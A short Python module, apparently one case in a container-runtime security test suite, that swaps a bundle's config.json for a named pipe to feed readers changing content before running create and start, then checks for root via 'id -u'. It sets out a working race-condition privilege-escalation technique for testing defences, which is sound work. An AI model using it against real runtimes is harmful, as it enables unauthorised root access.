"""config.json is a pipe, which can say something else to each reader."""

import os
import threading
import time

from bypass import refused

SOURCE = "idea"
WAY = "state"
STOPPED = refused("bundle")


def attack(t):
    t.lay("id -u")
    text = t.read(t.bundle + "/config.json")
    os.unlink(t.bundle + "/config.json")
    os.mkfifo(t.bundle + "/config.json")

    def say():
        while True:
            with open(t.bundle + "/config.json", "w") as pipe:
                pipe.write(text)
            time.sleep(0.05)
    threading.Thread(target=say, daemon=True).start()
    t.create_by("create", "--bundle", t.bundle, "--pid-file", t.pid_file, t.id)
    t.start()
    return t.ended().strip() == "0" and "uid 0"
